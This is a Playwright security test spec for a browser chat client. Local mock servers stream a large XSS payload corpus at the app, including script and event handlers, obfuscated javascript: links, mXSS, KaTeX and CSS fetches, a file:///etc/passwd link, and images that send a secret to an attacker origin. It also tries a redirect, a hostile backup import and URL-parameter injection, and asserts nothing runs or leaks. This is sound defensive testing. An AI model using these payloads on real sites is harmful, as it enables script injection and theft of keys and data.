// Hostile input, zero leaks (issue 12). Everything here runs against servers this spec starts on
// their own loopback ports (port 0: each worker gets its own), so they are other origins than the
// app and than each other:
//   - A: a hostile OpenAI-compatible endpoint. It streams a payload corpus (scripts, handlers,
//     javascript:/data: in many casings and encodings, SVG, MathML, KaTeX commands, images,
//     iframes, CSS) as content, reasoning and titles, split at awkward boundaries so every
//     streaming prefix is rendered; it sends payloads in error bodies and in its model list, and
//     can redirect to the attacker;
//   - B: a second, honest endpoint, to prove A's key never reaches it;
//   - SINK: the attacker. Every payload that could fetch points at it. Pass criterion: zero hits.
// A canary key is entered for A; the spec asserts it appears only in A's Authorization header:
// never in a URL, a body, another endpoint's request, the console, an export, a backup or storage
// other than the one remembered-key slot.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { test, expect, type Page } from '@playwright/test'
import {
  answers,
  canaryKey,
  closeSettings,
  configure,
  expectCleanPage,
  expectStatus,
  exportTxt,
  lastAnswer,
  messages,
  openSettings,
  send,
  settleSaves,
  watchOf,
  watchPage,
} from './helpers'

interface Hit {
  method: string
  url: string
  headers: Record<string, string | string[] | undefined>
  body: string
}

interface Loopback {
  origin: string
  hits: Hit[]
  close(): Promise<void>
}

type Handler = (req: IncomingMessage, res: ServerResponse, body: string, hits: Hit[]) => void

async function listen(handler: Handler): Promise<Loopback> {
  const hits: Hit[] = []
  const server = createServer((req, res) => {
    let body = ''
    req.setEncoding('utf8')
    req.on('data', (chunk: string) => (body += chunk))
    req.on('end', () => {
      hits.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body })
      handler(req, res, body, hits)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise<void>((resolve) => {
      server.closeAllConnections()
      server.close(() => resolve())
    }),
  }
}

const CORS = {
  'access-control-allow-origin': '*',
  'access-control-allow-headers': 'authorization, content-type',
  'access-control-allow-methods': 'GET, POST, OPTIONS',
  'access-control-max-age': '0',
}

let sink: Loopback
let endpointA: Loopback
let endpointB: Loopback

/** The payload corpus; `S` is the attacker's origin, so anything that fetches is counted. */
function corpus(S: string): string[] {
  const svg64 = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="__pwn('svg-data')"><image href="${S}/svg-data.png"/></svg>`).toString('base64')
  const html64 = Buffer.from(`<script>parent.__pwn('data-html')</script><img src="${S}/data-html.png">`).toString('base64')
  return [
    `<script>__pwn('script')</script><script src="${S}/x.js"></script>`,
    `<img src=x onerror="__pwn('img-onerror')"><img src="${S}/raw-img.png">`,
    `<svg onload="__pwn('svg-onload')"><script>__pwn('svg-script')</script><a xlink:href="javascript:__pwn('svg-a')"><text>x</text></a><image href="${S}/svg-image.png"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="__pwn('mxss')"></style></mglyph></table></mtext></math>`,
    `<math href="javascript:__pwn('mathml-href')"><mi>x</mi></math>`,
    `<iframe src="${S}/frame" srcdoc="<script>parent.__pwn('srcdoc')</script>"></iframe>`,
    `<object data="${S}/object"></object><embed src="${S}/embed">`,
    `<style>@import url(${S}/import.css); body { background: url(${S}/bg.png) }</style><link rel="stylesheet" href="${S}/link.css">`,
    `<div style="background:url(${S}/style-attr.png)">styled</div>`,
    `<meta http-equiv="refresh" content="0;url=${S}/refresh"><base href="${S}/">`,
    `<form action="${S}/form"><button formaction="javascript:__pwn('formaction')">go</button></form>`,
    `<video src="${S}/v.mp4" autoplay></video><audio src="${S}/a.mp3" autoplay></audio><input autofocus onfocus="__pwn('autofocus')">`,
    `[lower](javascript:__pwn('md-js')) [mixed](JaVaScRiPt:__pwn('md-case')) [upper](JAVASCRIPT:__pwn('md-upper'))`,
    `[entity](&#106;avascript:__pwn('md-entity')) [hex](&#x6A;avascript:__pwn('md-hex')) [colon](javascript&colon;__pwn('md-colon'))`,
    `[tab](java\tscript:__pwn('md-tab')) [pct](%6A%61vascript:__pwn('md-pct')) [nl](java%0ascript:__pwn('md-nl')) [comment](javascript://%0a__pwn('md-comment'))`,
    `[vb](vbscript:msgbox(1)) [file](file:///etc/passwd) [data](data:text/html;base64,${html64}) [DATA](DATA:text/html,<script>__pwn('md-data')</script>)`,
    `<javascript:__pwn('autolink')> <JAVASCRIPT:alert(1)> <data:text/html,<script>__pwn('auto-data')</script>>`,
    `[ref link][evil]\n\n[evil]: javascript:__pwn('ref-def')`,
    `![inline image](${S}/md-image.png?secret=SECRET) ![data svg](data:image/svg+xml;base64,${svg64})`,
    `![ref image][pic]\n\n[pic]: ${S}/ref-image.png`,
    `[![image in a link](${S}/nested.png)](${S}/nested-link)`,
    `A media link ${S}/bare.mp4 and ${S}/bare.mp3 and www.example.invalid/linkify`,
    `[title break](https://example.invalid "x\\" onmouseover=\\"__pwn('title')") ![alt break" onerror="__pwn('alt')](${S}/alt.png)`,
    `$\\href{javascript:__pwn('katex-href')}{click}$ and $\\url{javascript:__pwn('katex-url')}$`,
    `$\\includegraphics{${S}/katex.png}$ $\\htmlData{foo=bar}{x}$ $\\htmlStyle{background:url(${S}/k.png)}{x}$ $\\htmlId{app}{x}$`,
    `$$\\def\\a{\\a\\a}\\a$$\n\n$$\\rule{100000em}{100000em}$$`,
    '```html\n<script>__pwn(\'fence\')</script><img src=x onerror=__pwn(\'fence-img\')>\n```',
    '```svg\n<svg onload="__pwn(\'fence-svg\')"/>\n```',
    `<a href="javascript:__pwn('raw-a')">raw anchor</a> <a href="${S}/raw-a">raw remote anchor</a>`,
    `<details open ontoggle="__pwn('ontoggle')"><summary>s</summary></details>`,
    `"><img src=x onerror=__pwn('breakout')> '--><script>__pwn('comment-break')</script>`,
    `<!--<img src="--><img src=x onerror=__pwn('comment')>`,
  ]
}

function sseChunk(delta: Record<string, unknown>, finish: string | null = null): string {
  return `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`
}

/** `text` as SSE, split at small, uneven boundaries (1–7 characters), so every prefix is rendered. */
function pieces(text: string): string[] {
  const out: string[] = []
  for (let i = 0, n = 1; i < text.length; n = (n % 7) + 1) {
    out.push(text.slice(i, i + n))
    i += n
  }
  return out
}

async function stream(res: ServerResponse, field: 'content' | 'reasoning_content', text: string, after = ''): Promise<void> {
  res.writeHead(200, { ...CORS, 'content-type': 'text/event-stream' })
  const parts = pieces(text)
  // Several SSE events per write, so the browser sees both split and merged chunks.
  for (let i = 0; i < parts.length; i += 9) {
    res.write(parts.slice(i, i + 9).map((p) => sseChunk({ [field]: p })).join(''))
    await new Promise((r) => setTimeout(r, 1))
  }
  if (after !== '') res.write(sseChunk({ content: after }))
  res.end(`${sseChunk({}, 'stop')}data: [DONE]\n\n`)
}

function lastUser(body: string): string {
  try {
    const parsed = JSON.parse(body) as { messages?: Array<{ role: string; content: string }> }
    return [...(parsed.messages ?? [])].reverse().find((m) => m.role === 'user')?.content ?? ''
  } catch {
    return ''
  }
}

function isTitleRequest(body: string): boolean {
  try {
    const parsed = JSON.parse(body) as { messages?: Array<{ role: string; content: string }> }
    return parsed.messages?.[0]?.role === 'system' && /title of at most/.test(parsed.messages[0].content)
  } catch {
    return false
  }
}

const HOSTILE_TITLE = (S: string) => `<img src="${S}/title.png" onerror="__pwn('title')"><script>__pwn('title-script')</script>[t](javascript:__pwn('title-link'))`

test.beforeAll(async () => {
  sink = await listen((_req, res) => {
    res.writeHead(200, { ...CORS, 'content-type': 'image/png' })
    res.end()
  })
  const S = sink.origin
  endpointA = await listen((req, res, body) => {
    if (req.method === 'OPTIONS') {
      res.writeHead(204, CORS)
      res.end()
      return
    }
    const path = (req.url ?? '').replace(/\?.*$/, '')
    const ask = lastUser(body)
    if (/adv:redirect/.test(ask) || path.includes('/redirect/')) {
      res.writeHead(307, { ...CORS, location: `${S}/stolen?via=redirect` })
      res.end()
      return
    }
    if (path.endsWith('/models')) {
      res.writeHead(200, { ...CORS, 'content-type': 'application/json' })
      res.end(JSON.stringify({
        object: 'list',
        data: [
          ...corpus(S).slice(0, 12).map((id) => ({ id, object: 'model' })),
          { id: `\u202Eevil-bidi-${'x'.repeat(10_000)}`, object: 'model' },
          { id: 'mock-model', object: 'model', context_length: -5 },
        ],
      }))
      return
    }
    if (isTitleRequest(body)) return void stream(res, 'content', HOSTILE_TITLE(S))
    if (/adv:error-json/.test(ask)) {
      res.writeHead(400, { ...CORS, 'content-type': 'application/json' })
      res.end(JSON.stringify({ error: { message: `${corpus(S).slice(0, 6).join(' ')} ![x](${S}/err.png) key ${String(req.headers.authorization)}`, type: 'invalid_request_error' } }))
      return
    }
    if (/adv:error-html/.test(ask)) {
      res.writeHead(502, { ...CORS, 'content-type': 'text/html' })
      res.end(`<html><head><meta http-equiv="refresh" content="0;url=${S}/refresh"></head><body><script>__pwn('html-error')</script><img src="${S}/html-error.png" onerror="__pwn('html-error-img')"><h1>502 Bad Gateway</h1></body></html>`)
      return
    }
    if (/adv:stream-error/.test(ask)) {
      res.writeHead(200, { ...CORS, 'content-type': 'text/event-stream' })
      res.write(sseChunk({ content: 'partial ' }))
      res.end(`data: ${JSON.stringify({ error: { message: `<img src="${S}/stream-error.png" onerror="__pwn('stream-error')"> [x](javascript:__pwn('stream-error-link'))` } })}\n\n`)
      return
    }
    if (/adv:reasoning/.test(ask)) return void stream(res, 'reasoning_content', corpus(S).join('\n\n'), 'Done thinking.')
    return void stream(res, 'content', corpus(S).join('\n\n'))
  })
  endpointB = await listen((req, res) => {
    if (req.method === 'OPTIONS') {
      res.writeHead(204, CORS)
      res.end()
      return
    }
    void stream(res, 'content', 'Answer from B.')
  })
})

test.afterAll(async () => {
  await Promise.all([sink?.close(), endpointA?.close(), endpointB?.close()])
})

let canary = ''

test.beforeEach(async ({ page }) => {
  await watchPage(page)
  sink.hits.length = 0
  endpointA.hits.length = 0
  endpointB.hits.length = 0
  canary = canaryKey()
  // Anything that reaches these ran code the page did not write.
  await page.addInitScript(() => {
    const w = window as unknown as { __pwn: (why?: string) => void; alert: unknown; confirm: unknown; prompt: unknown; open: unknown }
    for (const name of ['alert', 'confirm', 'prompt', 'print'] as const) {
      ;(w as unknown as Record<string, unknown>)[name] = (...args: unknown[]) => w.__pwn(`${name}(${args.join(',')})`)
    }
  })
})

test.afterEach(async ({ page }) => {
  await expectCleanPage(page)
  expect(sink.hits.map((h) => `${h.method} ${h.url}`), 'requests the attacker received').toEqual([])
  await expectKeyOnlyWithA(page)
})

/** Where the canary may be: only in the Authorization header of A's requests. */
async function expectKeyOnlyWithA(page: Page): Promise<void> {
  for (const hit of endpointA.hits) {
    const { authorization, ...rest } = hit.headers
    if (authorization !== undefined) expect(authorization).toBe(`Bearer ${canary}`)
    expect(JSON.stringify(rest) + hit.url + hit.body, `A's request ${hit.url} outside Authorization`).not.toContain(canary)
  }
  for (const hit of endpointB.hits) expect(JSON.stringify(hit), `B's request ${hit.url}`).not.toContain(canary)
  const watch = watchOf(page)
  for (const request of watch.requests) {
    expect(request.url, 'a URL').not.toContain(canary)
    expect(request.postData ?? '', `body of ${request.url}`).not.toContain(canary)
    const { authorization, ...rest } = request.headers
    if (authorization?.includes(canary)) expect(request.url.startsWith(`${endpointA.origin}/`), `the canary sent to ${request.url}`).toBe(true)
    expect(JSON.stringify(rest)).not.toContain(canary)
  }
  expect(watch.console.join('\n'), 'console').not.toContain(canary)
  expect(watch.console.join('\n'), 'console').not.toContain(canary.slice(10, 30))
  if (!page.isClosed()) {
    expect(await page.evaluate(() => location.href + history.length + window.name)).not.toContain(canary)
  }
}

/** The rendered page holds no active content: no scripts or frames under the chat, no handlers, no unsafe links, no remote media. */
async function expectInertDom(page: Page): Promise<void> {
  const found = await page.evaluate((sinkOrigin) => {
    const out: string[] = []
    const root = document.querySelector('#app') ?? document.body
    for (const el of root.querySelectorAll('script, iframe, object, embed, frame, frameset, base, meta, link, style, video, audio, source, foreignObject')) {
      out.push(`element <${el.tagName.toLowerCase()}>`)
    }
    // The composer is the app's one form; none may come from text.
    for (const el of root.querySelectorAll('form')) if (!el.matches('[data-testid] form, form') || el.closest('[data-testid="message"], .search-result, .conversation-item')) out.push('element <form> from text')
    for (const el of root.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        if (/^on/i.test(attr.name)) out.push(`${el.tagName} ${attr.name}`)
        if (/^(href|src|xlink:href|action|formaction|srcset|poster|data)$/i.test(attr.name)) {
          const value = attr.value.trim()
          if (/^\s*(javascript|vbscript|data:text|file):/i.test(value)) out.push(`${el.tagName} ${attr.name}=${value.slice(0, 40)}`)
          if (attr.name.toLowerCase() !== 'href' && value.startsWith(sinkOrigin)) out.push(`${el.tagName} loads ${value}`)
        }
        if (attr.name === 'style' && /url\(/i.test(attr.value)) out.push(`${el.tagName} style url()`)
        if (attr.name === 'id' && /^(app|evil|pic)$/.test(attr.value) && el.closest('[data-testid="message-content"], [data-testid="message-reasoning"]')) out.push(`input-derived id ${attr.value}`)
      }
    }
    for (const a of root.querySelectorAll('a[href]')) {
      const href = a.getAttribute('href') ?? ''
      if (!/^(https?:|mailto:|#|blob:)/i.test(href)) out.push(`anchor href ${href.slice(0, 40)}`)
      if (/^https?:/i.test(href)) {
        const rel = (a.getAttribute('rel') ?? '').split(/\s+/)
        if (!rel.includes('noopener') || !rel.includes('noreferrer')) out.push(`anchor ${href.slice(0, 40)} without rel=noopener noreferrer`)
      }
    }
    for (const img of root.querySelectorAll('img')) {
      const src = img.getAttribute('src') ?? ''
      if (!/^(data:|blob:|\.?\/|\/)/.test(src)) out.push(`img ${src.slice(0, 60)}`)
    }
    return out
  }, sink.origin)
  expect(found).toEqual([])
  // Resource timing: the page itself never asked the attacker for anything.
  const fetched = await page.evaluate((sinkOrigin) => performance.getEntriesByType('resource').map((e) => e.name).filter((n) => n.startsWith(sinkOrigin)), sink.origin)
  expect(fetched).toEqual([])
}

/** Every IndexedDB record, localStorage and sessionStorage, as text. */
async function storageDump(page: Page): Promise<{ idb: Record<string, string>; local: string; session: string }> {
  return page.evaluate(async () => {
    const out: Record<string, string> = {}
    for (const info of await indexedDB.databases()) {
      if (!info.name) continue
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const req = indexedDB.open(info.name!)
        req.onsuccess = () => resolve(req.result)
        req.onerror = () => reject(req.error)
      })
      for (const store of db.objectStoreNames) {
        const tx = db.transaction(store, 'readonly')
        const [keys, values] = await Promise.all([
          new Promise<IDBValidKey[]>((resolve) => { const r = tx.objectStore(store).getAllKeys(); r.onsuccess = () => resolve(r.result) }),
          new Promise<unknown[]>((resolve) => { const r = tx.objectStore(store).getAll(); r.onsuccess = () => resolve(r.result) }),
        ])
        keys.forEach((key, i) => (out[`${info.name}/${store}/${String(key)}`] = JSON.stringify(values[i])))
      }
      db.close()
    }
    return { idb: out, local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) }
  })
}

async function configureA(page: Page, path = '/v1'): Promise<void> {
  await configure(page, { baseUrl: `${endpointA.origin}${path}`, apiKey: canary })
}

async function download(page: Page, testid: string): Promise<string> {
  const [file] = await Promise.all([page.waitForEvent('download'), page.getByTestId(testid).click()])
  expect(file.suggestedFilename()).not.toMatch(/[/\\:*?"<>|]/)
  return readFile(await file.path(), 'utf8')
}

test('payloads streamed as content, reasoning and a model-written title never run or fetch, before and after reload', async ({ page }) => {
  test.setTimeout(60_000)
  await configureA(page)
  await openSettings(page)
  await page.getByTestId('settings-auto-title').setChecked(true)
  await closeSettings(page)

  const pasted = corpus(sink.origin).slice(0, 4).join(' ')
  await expectStatus(await send(page, `${pasted} adv:content`), 'done', 20_000)
  await expectStatus(await send(page, 'think about it adv:reasoning'), 'done', 20_000)
  // The title request came back with markup: it is text in the list and the document title.
  await expect.poll(() => endpointA.hits.filter((h) => isTitleRequest(h.body)).length).toBe(1)
  const item = page.getByTestId('conversation-item').first()
  await expect(item).toContainText('<img src=')
  await expectInertDom(page)
  // The KaTeX commands are refused as text or errors, never as links or styles.
  expect(await lastAnswer(page).locator('a[href^="javascript"], [style*="url("]').count()).toBe(0)
  // Hover everything: nothing prefetches.
  for (const link of await page.locator('[data-testid="message-content"] a').all()) await link.hover()
  await page.waitForTimeout(500)
  await expectInertDom(page)

  await settleSaves(page)
  await page.reload()
  await expect(answers(page)).toHaveCount(2)
  await expectInertDom(page)
  // Search results and the edit box show the stored payloads as text too.
  await page.getByTestId('search-input').fill('onerror')
  await expect(page.getByTestId('search-result').first()).toBeVisible()
  await expectInertDom(page)
  await page.getByTestId('search-input').fill('')
  await page.getByTestId('message').first().hover()
  await page.getByTestId('message-edit').first().click()
  await expect(page.getByTestId('message-edit-input')).toHaveValue(/<script>__pwn\('script'\)<\/script>/)
  await page.getByTestId('message-edit-cancel').click()
  await expectInertDom(page)
  await page.waitForTimeout(500)
})

test('payloads in error bodies, a mid-stream error and the model list are shown as plain text', async ({ page }) => {
  await configureA(page)
  const jsonError = await send(page, 'adv:error-json')
  await expectStatus(jsonError, 'error')
  const text = await jsonError.getByTestId('message-error').innerText()
  expect(text).toContain('<script>')
  // A server that echoes the key gets a masked form onto the screen, never the key.
  expect(text).not.toContain(canary)
  await expectStatus(await send(page, 'adv:error-html'), 'error')
  const midStream = await send(page, 'adv:stream-error')
  await expectStatus(midStream, 'error')
  await expect(midStream.getByTestId('message-error')).toContainText('<img src=')

  await openSettings(page)
  await page.getByTestId('model-refresh').click()
  await expect(page.getByTestId('model-refresh-status')).toBeVisible()
  await expect.poll(() => page.locator('#settings-model-suggestions option').count()).toBeGreaterThan(5)
  await page.getByTestId('connection-test').click()
  await expect(page.getByTestId('connection-result')).toBeVisible()
  await expectInertDom(page)
  await closeSettings(page)
  await page.waitForTimeout(300)
  await expectInertDom(page)
})

test('an imported file full of payloads renders inert and cannot move the endpoint or the key', async ({ page }, info) => {
  await configureA(page)
  const S = sink.origin
  const payloads = corpus(S)
  const now = Date.now()
  const hostile = {
    format: 'inkstream-backup',
    version: 1,
    exportedAt: new Date(now).toISOString(),
    settings: { providerId: 'custom', baseUrl: `${S}/v1`, model: 'stolen', apiKey: 'sk-attacker-000000000000', systemPrompt: 'x' },
    conversations: [
      {
        id: 'hostile-1',
        title: HOSTILE_TITLE(S),
        createdAt: now - 1000,
        updatedAt: now,
        messages: [
          { id: 'q1', seq: 0, role: 'user', content: payloads.slice(0, 10).join('\n'), reasoning: '', status: 'done', createdAt: now - 1000, updatedAt: now - 1000, parentId: null },
          { id: 'a1', seq: 1, role: 'assistant', content: payloads.join('\n\n'), reasoning: payloads.slice(10).join('\n\n'), status: 'done', createdAt: now - 1000, updatedAt: now - 900, parentId: 'q1', selectedAt: now - 900 },
          { id: 'a2', seq: 2, role: 'assistant', content: `second version ${payloads[1]}`, reasoning: '', status: 'error', createdAt: now - 1000, updatedAt: now - 800, parentId: 'q1', selectedAt: now - 800, error: { kind: 'http', message: payloads[0], status: 500 } },
        ],
      },
    ],
  }
  const file = join(info.outputDir, 'hostile-backup.json')
  await mkdir(info.outputDir, { recursive: true })
  await writeFile(file, JSON.stringify(hostile))
  await openSettings(page)
  await page.getByTestId('import-file').setInputFiles(file)
  await expect(page.getByTestId('data-notice')).toContainText('Imported 1 conversation')
  // The endpoint and the key are as they were.
  await expect(page.getByTestId('settings-base-url')).toHaveValue(`${endpointA.origin}/v1`)
  await expect(page.getByTestId('settings-api-key')).toHaveValue(canary)
  await expect(page.getByTestId('settings-model')).toHaveValue('mock-model')
  await closeSettings(page)

  await page.getByTestId('conversation-item').filter({ hasText: '<img src=' }).click()
  await expect(messages(page)).toHaveCount(2)
  await expectInertDom(page)
  // Both versions of the answer, one after the other.
  await page.getByTestId('message-version-prev').click()
  await expect(lastAnswer(page).getByTestId('message-content')).toContainText('javascript:')
  await expectInertDom(page)
  await page.getByTestId('search-input').fill('pwn')
  await expect(page.getByTestId('search-result').first()).toBeVisible()
  await expectInertDom(page)
  await page.waitForTimeout(500)
})

test('the canary key goes only to its endpoint: never to another endpoint, an export, a backup, storage or the console', async ({ page }) => {
  test.setTimeout(60_000)
  await configureA(page)
  await expectStatus(await send(page, 'hello A adv:content'), 'done', 20_000)
  await openSettings(page)
  await page.getByTestId('model-refresh').click()
  await expect(page.getByTestId('model-refresh-status')).toBeVisible()
  await page.getByTestId('connection-test').click()
  await expect(page.getByTestId('connection-result')).toBeVisible()
  const backup = await download(page, 'backup-export')
  const allText = await download(page, 'export-all-txt')
  await closeSettings(page)
  const { text: txt } = await exportTxt(page)
  const md = await download(page, 'export-md')
  for (const [name, text] of [['backup', backup], ['all txt', allText], ['conversation.txt', txt], ['markdown', md]] as const) {
    expect(text, name).not.toContain(canary)
    expect(text, name).not.toContain(canary.slice(10, 30))
  }
  expect(endpointA.hits.some((h) => h.headers.authorization === `Bearer ${canary}`)).toBe(true)

  // Switch to B: the field is empty and B's requests carry no key at all.
  await openSettings(page)
  await page.getByTestId('settings-base-url').fill(`${endpointB.origin}/v1`)
  await expect(page.getByTestId('settings-api-key')).toHaveValue('')
  await expect(page.getByTestId('settings-key-note')).toContainText(endpointB.origin)
  await page.getByTestId('settings-provider').selectOption('ollama')
  await page.getByTestId('settings-base-url').fill(`${endpointB.origin}/v1`)
  await page.getByTestId('settings-model').fill('mock-model')
  await closeSettings(page)
  await expectStatus(await send(page, 'hello B'), 'done')
  expect(endpointB.hits.filter((h) => h.method === 'POST')).toHaveLength(1)
  expect(endpointB.hits.every((h) => h.headers.authorization === undefined)).toBe(true)

  // B gets its own key; back on A, A's key is back.
  const keyB = canaryKey()
  await openSettings(page)
  await page.getByTestId('settings-api-key').fill(keyB)
  await page.getByTestId('settings-base-url').fill(`${endpointA.origin}/v1`)
  await expect(page.getByTestId('settings-api-key')).toHaveValue(canary)
  await page.getByTestId('settings-base-url').fill(`${endpointB.origin}/v1`)
  await expect(page.getByTestId('settings-api-key')).toHaveValue(keyB)
  await closeSettings(page)
  await expectStatus(await send(page, 'hello B with a key'), 'done')
  expect(endpointB.hits.filter((h) => h.method === 'POST').at(-1)?.headers.authorization).toBe(`Bearer ${keyB}`)

  // Storage: the canary sits in exactly one place, the remembered-key slot, under A's origin.
  await page.waitForTimeout(400)
  const dump = await storageDump(page)
  const holders = Object.entries(dump.idb).filter(([, v]) => v.includes(canary)).map(([k]) => k)
  expect(holders).toEqual(['inkstream/kv/apiKeys'])
  expect(JSON.parse(dump.idb['inkstream/kv/apiKeys']!)).toEqual({ [endpointA.origin]: canary, [endpointB.origin]: keyB })
  expect(dump.local + dump.session).not.toContain(canary)
  const html = await page.evaluate(() => document.documentElement.outerHTML)
  expect(html).not.toContain(canary)
})

test('"this session only" keeps the key out of IndexedDB; forget removes it and the next request carries none', async ({ page, context }) => {
  await configure(page, { baseUrl: `${endpointA.origin}/v1`, apiKey: canary, provider: 'ollama' })
  await openSettings(page)
  await page.getByTestId('settings-key-session').check()
  await expect(page.getByTestId('settings-key-note')).toContainText('until this tab closes')
  await closeSettings(page)
  await page.waitForTimeout(400)
  let dump = await storageDump(page)
  expect(JSON.stringify(dump.idb) + dump.local).not.toContain(canary)
  expect(dump.session).toContain(canary)
  await expectStatus(await send(page, 'with the session key'), 'done', 20_000)
  expect(endpointA.hits.filter((h) => h.method === 'POST').at(-1)?.headers.authorization).toBe(`Bearer ${canary}`)

  // The same tab after a reload still has it; a new tab does not.
  await page.reload()
  await openSettings(page)
  await expect(page.getByTestId('settings-api-key')).toHaveValue(canary)
  await expect(page.getByTestId('settings-key-session')).toBeChecked()
  const other = await context.newPage()
  await watchPage(other)
  await other.goto('/')
  await openSettings(other)
  await expect(other.getByTestId('settings-base-url')).toHaveValue(`${endpointA.origin}/v1`)
  await expect(other.getByTestId('settings-api-key')).toHaveValue('')
  await expectCleanPage(other)
  await other.close()

  await page.getByTestId('settings-key-forget').click()
  await expect(page.getByTestId('settings-api-key')).toHaveValue('')
  await closeSettings(page)
  dump = await storageDump(page)
  expect(JSON.stringify(dump)).not.toContain(canary)
  // Ollama takes no key: the request goes out, without Authorization.
  await expectStatus(await send(page, 'after forgetting adv:content'), 'done', 20_000)
  expect(endpointA.hits.filter((h) => h.method === 'POST').at(-1)?.headers.authorization).toBeUndefined()
})

test('a redirect to another origin is refused and named; the attacker hears nothing', async ({ page }) => {
  await configureA(page, '/redirect/v1')
  const answer = await send(page, 'follow me adv:redirect')
  await expectStatus(answer, 'error')
  await expect(answer.getByTestId('message-error')).toContainText('The redirect was refused, so your API key went nowhere else.')
  await openSettings(page)
  await page.getByTestId('model-refresh').click()
  await expect(page.getByTestId('model-refresh-status')).toContainText('redirect')
  await page.getByTestId('connection-test').click()
  await expect(page.getByTestId('connection-result')).toContainText('The redirect was refused')
  await closeSettings(page)
  await page.waitForTimeout(300)
})

test('URL parameters and the hash never change the endpoint or the key, and never send', async ({ page }) => {
  await configureA(page)
  await expect(messages(page)).toHaveCount(0)
  const S = encodeURIComponent(`${sink.origin}/v1`)
  for (const suffix of [
    `/?settings=${encodeURIComponent(JSON.stringify({ url: `${sink.origin}/v1`, key: 'sk-evil' }))}`,
    `/?url=${S}&baseUrl=${S}&key=sk-evil&submit=hello&fill=hello`,
    `/#key=sk-evil&url=${S}&submit=hello`,
    `/?provider=custom#/settings?baseUrl=${S}`,
  ]) {
    await page.goto(suffix)
    await expect(page.getByTestId('composer-input')).toBeVisible()
    await expect(page.getByTestId('composer-input')).toHaveValue('')
    await openSettings(page)
    await expect(page.getByTestId('settings-base-url')).toHaveValue(`${endpointA.origin}/v1`)
    await expect(page.getByTestId('settings-api-key')).toHaveValue(canary)
    await closeSettings(page)
    await expect(messages(page)).toHaveCount(0)
  }
  expect(endpointA.hits.filter((h) => h.method === 'POST')).toEqual([])
})
